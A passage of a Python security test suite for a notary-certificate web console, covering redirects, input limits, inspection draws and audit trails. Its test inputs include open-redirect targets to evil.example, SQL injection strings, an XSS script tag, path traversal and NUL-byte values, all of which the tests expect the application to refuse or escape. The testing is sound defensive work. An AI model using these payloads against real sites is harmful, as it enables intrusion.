            "/%2F%2Fevil.example", "/console/" + "a" * 600, "http:/evil.example"]
    anonymous = _client(w.app)
    for target in evil:
        for lang in ("en", "zz"):
            answer = anonymous.get(f"/console/lang/{lang}", params={"next": target}, follow_redirects=False)
            assert answer.status_code in (303, 422), target
            if answer.status_code == 303:  # a path of this site's console, nothing else
                location = answer.headers["location"]
                assert location.startswith("/console/") and not re.search(r"[\r\n\\]", location), (target, location)
        page = anonymous.get("/console/signin", params={"next": target})
        assert page.status_code in (200, 422), target
        assert 'value="javascript:' not in page.text and 'value="//' not in page.text, target
    person = make_person(w.rt, "redirected")
    answer = sign_in(_client(w.app), person, next_="//evil.example/console/")
    assert answer.headers["location"] == "/console/office"


# ------------------------------------------------------------------------------ input limits

def test_malformed_ids_pages_and_oversized_forms_are_refused_with_a_4xx(world):
    w = world
    admin, csrf = w.clients["admin"], w.csrf["admin"]
    for route in _routes(w.app, "GET") + _routes(w.app, "POST"):
        names = re.findall(r"{(\w+)}", route.path)
        if not names or names == ["lang"]:
            continue
        who = {"regulator": "regulator"}.get(_area(route.path), "admin")
        for bad in ("not-a-uuid", "1' OR '1'='1", "0" * 5000, "%00"):
            url = route.path.format(**{n: bad for n in names})
            answer = _request(w.clients[who], "POST" if "POST" in route.methods else "GET", url, {"csrf": w.csrf[who]})
            assert 400 <= answer.status_code < 500, (route.path, bad[:20], answer.status_code)
    for page in ("0", "-1", "10001", "99999999999999999999", "1.5", "x"):
        for path, who in (("/console/office", "admin"), ("/console/office/admin/audit", "admin"),
                          ("/console/regulator/audit", "regulator"), ("/console/regulator/leads", "regulator"),
                          ("/console/regulator/inspections", "regulator")):
            assert w.clients[who].get(path, params={"page": page}).status_code == 422, (path, page)
    many = {"csrf": csrf, **{f"f{i}": "x" for i in range(1500)}}
    assert admin.post("/console/office/drafts", data=many).status_code == 400
    huge = admin.post("/console/office/drafts", data={"csrf": csrf, "matter": "birth", "purpose": "x" * 1_100_000})
    assert huge.status_code == 413  # a console form is at most 1 MB (notary.limits), before any parser
    for params in ({"number": "x" * 65}, {"name": "x" * 41}, {"id_number": "1" * 19}, {"matter": "m" * 41}):
        assert admin.get("/console/office", params=params).status_code == 422, params
    long_values = admin.post("/console/office/drafts", data={"csrf": csrf, "matter": "birth",
                                                             **{k: "长" * 10_000 for k in EXAMPLES["birth"]}},
                             follow_redirects=False)
    assert long_values.status_code == 303
    assert admin.get(long_values.headers["location"]).status_code == 200


def test_dates_out_of_the_calendars_range_are_a_4xx_not_a_500(world):
    """The search's end day, the statistics' period and the draw's period, at the ends of
    what a date can be (a date field accepts 9999-12-31; a day before 0001-01-01 does not exist)."""
    w = world
    admin, reg = w.clients["admin"], w.clients["regulator"]
    answers = {
        "search until 9999-12-31": admin.get("/console/office", params={"date_to": "9999-12-31"}),
        "search from 0001-01-01": admin.get("/console/office", params={"date_from": "0001-01-01"}),
        "statistics 0001-01-01": reg.get("/console/regulator", params={"since": "0001-01-01", "until": "0001-01-01"}),
        "statistics until 9999-12-31": reg.get("/console/regulator", params={"until": "9999-12-31"}),
        "csv 0001-01-01": reg.get("/console/regulator/statistics.csv", params={"since": "0001-01-01",
                                                                               "until": "0001-01-02"}),
        "leads 0001-01-01": reg.get("/console/regulator/leads", params={"since": "0001-01-01", "until": "0001-01-01"}),
    }
    for since, until in (("9999-01-01", "9999-12-31"), ("9994-12-31", "9999-12-31"), ("0001-01-01", "0001-01-01")):
        answers[f"draw {since}..{until}"] = reg.post("/console/regulator/inspections", data={
            "csrf": w.csrf["regulator"], "size": "1", "from": since, "to": until}, follow_redirects=False)
    failed = {name: a.status_code for name, a in answers.items() if a.status_code >= 500}
    assert failed == {}


def test_nul_bytes_in_queries_and_forms_are_a_4xx_on_postgresql(runtime_factory, pg_database):
    """PostgreSQL text cannot hold U+0000; SQLite can. A NUL typed (or pasted) into a search
    box or a name must be refused as input, not reach the database and answer 500."""
    w = _world(runtime_factory(database_url=pg_database))
    admin, reg = w.clients["admin"], w.clients["regulator"]
    answers = {
        "search name": admin.get("/console/office", params={"name": "张\x00"}),
        "search number": admin.get("/console/office", params={"number": "1\x00"}),
        "office audit action": admin.get("/console/office/admin/audit", params={"action": "staff\x00"}),
        "statistics office": reg.get("/console/regulator", params={"office": "SH\x00"}),
        "csv office": reg.get("/console/regulator/statistics.csv", params={"office": "SH\x00"}),
        "leads office": reg.get("/console/regulator/leads", params={"office": "SH\x00"}),
        "audit office": reg.get("/console/regulator/audit", params={"office": "SH\x00"}),
        "token name": admin.post("/console/office/admin/tokens", data={"csrf": w.csrf["admin"], "name": "系统\x00",
                                                                       "role": "notary", "days": "30"}),
        "api key name": admin.post("/console/office/admin/apikeys", data={"csrf": w.csrf["admin"], "name": "中心\x00",
                                                                          "days": "30"}),
        "revocation note": admin.post(f"/console/office/certificates/{w.cert.id}/revoke", data={
            "csrf": w.csrf["admin"], "reason": "1", "note": "错误\x00", "confirmed": "yes"}),
        "draft field": admin.post("/console/office/drafts", data={"csrf": w.csrf["admin"], "matter": "birth",
                                                                  "applicant_name": "张\x00"}, follow_redirects=False),
    }
    failed = {name: a.status_code for name, a in answers.items() if a.status_code >= 500}
    assert failed == {}


def test_revoking_an_unknown_api_key_is_a_404(world):
    answer = world.clients["admin"].post(f"/console/office/admin/apikeys/{uuid.uuid4()}/revoke",
                                         data={"csrf": world.csrf["admin"]})
    assert answer.status_code == 404


def test_a_token_or_key_with_an_impossible_lifetime_is_refused_not_made_eternal(world):
    """The form offers 1 to 3660 days; anything else must be refused, never turned into a
    credential that does not expire."""
    w = world
    before = _state(w)
    for path in ("/console/office/admin/tokens", "/console/office/admin/apikeys"):
        for days in ("0", "-5", "3661", "abc", "1e3", "9" * 5000):
            answer = w.clients["admin"].post(path, data={"csrf": w.csrf["admin"], "name": f"系统{days[:5]}",
                                                         "role": "notary", "days": days})
            assert answer.status_code == 422, (path, days[:10], answer.status_code)
    assert _state(w) == before


def test_an_operator_only_error_shows_only_its_public_message_on_a_console_page(world, monkeypatch):
    """Ledger and key-store errors carry details for the operator's log (node URLs, RPC
    answers) and a public message for everyone else (errors.NotaryError.public_message), which
    the JSON API sends; a console page must not show more."""
    from anchoring.errors import TransactionFailed
    from console import inspection

    def refused(*args, **kwargs):
        raise TransactionFailed("the draw's commitment was refused by the node: {'message': 'nonce too low', "
                                "'node': 'http://10.9.8.7:8545'}")

    monkeypatch.setattr(inspection, "commit_draw", refused)
    answer = world.clients["regulator"].post("/console/regulator/inspections", data={
        "csrf": world.csrf["regulator"], "size": "1", "from": "2020-01-01", "to": "2020-02-01"})
    assert answer.status_code == 503 and 'data-code="CHAIN_TRANSACTION_FAILED"' in answer.text
    assert "10.9.8.7" not in answer.text and "nonce too low" not in answer.text


# ------------------------------------------------------------------------------ the inspection draw

def test_absurd_draw_parameters_are_refused_and_leave_no_draw(world):
    w = world
    reg, csrf = w.clients["regulator"], w.csrf["regulator"]
    day, next_day = (_today() - dt.timedelta(days=1)).isoformat(), (_today() + dt.timedelta(days=1)).isoformat()
    base = {"csrf": csrf, "size": "1", "from": day, "to": next_day}
    for change in ({"size": "0"}, {"size": "-1"}, {"size": "1001"}, {"size": "1e3"}, {"size": "True"},
                   {"size": "9" * 5000}, {"size": ""}, {"from": next_day, "to": day},
                   {"from": "2000-01-01", "to": "2020-01-01"}, {"office": "<script>"}, {"office": "../../etc"},
                   {"office": "x" * 65}, {"matter": "birth' --"}, {"from": "not-a-date", "to": "not-a-date"},
                   {"office": "NO-SUCH-OFFICE"}):
        answer = reg.post("/console/regulator/inspections", data={**base, **change}, follow_redirects=False)
        assert answer.status_code == 422 and "<script>" not in answer.text, (change, answer.status_code)
    assert _state(w)["inspection_draw"] == []


def test_every_redraw_is_listed_and_audited_with_its_own_commitment(world):
    """A regulator who does not like a sample may draw again (each draw has a fresh nonce,
    hence a fresh seed): nothing stops it, but every draw stays listed, each commitment is
    on the ledger and in the audit log, so a draw set aside shows."""
    w = world
    draws = [w.draw(size=1) for _ in range(3)]
    listing = w.clients["regulator"].get("/console/regulator/inspections").text
    assert all(d in listing for d in draws)
    events = _audit_since(w, 0)
    commits = [e for e in events if e[0] == "inspection.commit"]
    assert len(commits) == 3 and all(actor == "registry_admin:赵强" for _, actor, _ in commits)
    assert len([e for e in events if e[0] == "inspection.draw"]) == 3
    commitments = set()
    for draw_id in draws:
        doc = w.clients["regulator"].get(f"/console/regulator/inspections/{draw_id}/draw.json").json()
        commitments.add(doc["commitment"])
        assert doc["seed_block"] == doc["commit_block"] + 1
    assert len(commitments) == 3


def test_office_staff_can_neither_see_nor_touch_a_draw(world):
    w = world
    draw_id = w.draw(size=1)
    before, seq = _state(w), _audit_seq(w)
    for who in ("admin", "notary", "outsider"):
        client = w.clients[who]
        for path in ("/console/regulator/inspections", f"/console/regulator/inspections/{draw_id}",
                     f"/console/regulator/inspections/{draw_id}/draw.json"):
            assert client.get(path).status_code == 403, (who, path)
        for path, body in ((f"/console/regulator/inspections/{draw_id}/findings",
                            {"certificate": w.cert.number, "outcome": "conforming"}),
                           (f"/console/regulator/inspections/{draw_id}/complete", {}),
                           ("/console/regulator/inspections", {"size": "1000"})):
            assert client.post(path, data={"csrf": w.csrf[who], **body}).status_code == 403, (who, path)
    assert _state(w) == before and {a for a, _, _ in _audit_since(w, seq)} == {"console.refused"}


def test_hostile_finding_notes_and_certificates_outside_the_sample_are_refused(world):
    w = world
    draw_id = w.draw(size=1)
    reg, csrf = w.clients["regulator"], w.csrf["regulator"]
    url = f"/console/regulator/inspections/{draw_id}/findings"
    other = issue_certificate(w.rt.issuer_context(), "birth", EXAMPLES["birth"])  # issued after the draw: not drawn
    for body in ({"certificate": w.cert.number, "outcome": "conforming", "note": "合规\u202e"},
                 {"certificate": w.cert.number, "outcome": "conforming", "note": "合规\x00"},
                 {"certificate": w.cert.number, "outcome": "conforming", "note": "长" * 501},
                 {"certificate": w.cert.number, "outcome": "perfect"},
                 {"certificate": other.number, "outcome": "defective"},
                 {"certificate": "' OR 1=1 --", "outcome": "defective"}):
        answer = reg.post(url, data={"csrf": csrf, **body}, follow_redirects=False)
        assert answer.status_code == 422, (body, answer.status_code)
    ok = reg.post(url, data={"csrf": csrf, "certificate": w.cert.number, "outcome": "defective",
                             "note": "<script>alert(1)</script>"}, follow_redirects=False)
    assert ok.status_code == 303
    page = reg.get(f"/console/regulator/inspections/{draw_id}").text
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)" in page


# ------------------------------------------------------------------------------ the audit trail

def test_previewing_a_draft_is_audited_like_reading_it(world):
    """The preview shows the whole certificate, the applicant's personal data included, as
    page images: it is a read of the draft, as showing the draft's form is (draft.read)."""
    w = world
    seq = _audit_seq(w)
    assert w.clients["notary"].get(f"/console/office/drafts/{w.ids['draft_id']}/preview").status_code == 200
    assert [a for a, _, _ in _audit_since(w, seq)] in (["draft.read"], ["draft.preview"])


def test_an_administrators_api_key_changes_are_in_their_offices_audit_trail(world):
    """The office administrator makes and revokes registry API keys from the office's pages:
    the office's audit trail (the administrator's own page) must show them."""
    w = world
    admin, csrf = w.clients["admin"], w.csrf["admin"]
    assert admin.post("/console/office/admin/apikeys", data={"csrf": csrf, "name": "法院", "days": "30"}
                      ).status_code == 200
    assert admin.post(f"/console/office/admin/apikeys/{w.ids['key_id']}/revoke", data={"csrf": csrf},
                      follow_redirects=False).status_code == 303
    trail = admin.get("/console/office/admin/audit", params={"action": "apikey"}).text
    assert "apikey.create" in trail and "apikey.revoke" in trail


def test_the_inspected_office_does_not_read_the_regulators_findings_in_its_audit_trail(world):
    """The draws and findings are the regulator's pages only (office staff get 403 there),
    but each finding is audited under the inspected certificate's office, and the office's
    administrator reads the office's audit trail: the outcome and the regulator's note
    ("suspected forgery, notary to be interviewed") reach the office being inspected, and
    for a draw of one office so do its commitment and its sample."""
    w = world
    draw_id = w.draw(size=1)
    note = "疑似伪造，待约谈公证员"
    answer = w.clients["regulator"].post(f"/console/regulator/inspections/{draw_id}/findings", data={
        "csrf": w.csrf["regulator"], "certificate": w.cert.number, "outcome": "follow_up", "note": note},
        follow_redirects=False)
    assert answer.status_code == 303
    trail = w.clients["admin"].get("/console/office/admin/audit", params={"action": "inspection"})
    assert trail.status_code == 200
    assert note not in trail.text and "follow_up" not in trail.text


def test_privileged_actions_are_audited_with_their_actor_and_office(world):
    w = world
    admin, csrf = w.clients["admin"], w.csrf["admin"]
    seq = _audit_seq(w)
    made = admin.post("/console/office/admin/staff", data={"csrf": csrf, "username": "auditme", "name": "审计",
                                                           "role": "notary"})
    assert made.status_code == 200
    user_id = accounts.find_user(w.rt.engine, "auditme").id
    admin.post(f"/console/office/admin/staff/{user_id}/reset", data={"csrf": csrf})
    admin.post(f"/console/office/admin/staff/{user_id}/disable", data={"csrf": csrf})
    admin.post(f"/console/office/admin/staff/{user_id}/disable", data={"csrf": csrf, "enable": "yes"})
    admin.post("/console/office/admin/tokens", data={"csrf": csrf, "name": "审计令牌", "role": "notary", "days": "7"})
    admin.post(f"/console/office/admin/tokens/{w.ids['token_id']}/revoke", data={"csrf": csrf})
    admin.post(f"/console/office/certificates/{w.cert.id}/revoke", data={"csrf": csrf, "reason": "1",
                                                                          "confirmed": "yes"})
    events = _audit_since(w, seq)
    done = {action for action, actor, office in events if actor == "office_admin:李明" and office == w.rt.office.code}
    assert {"staff.create", "staff.reset", "staff.disable", "staff.enable", "token.create", "token.revoke",
            "revoke"} <= done
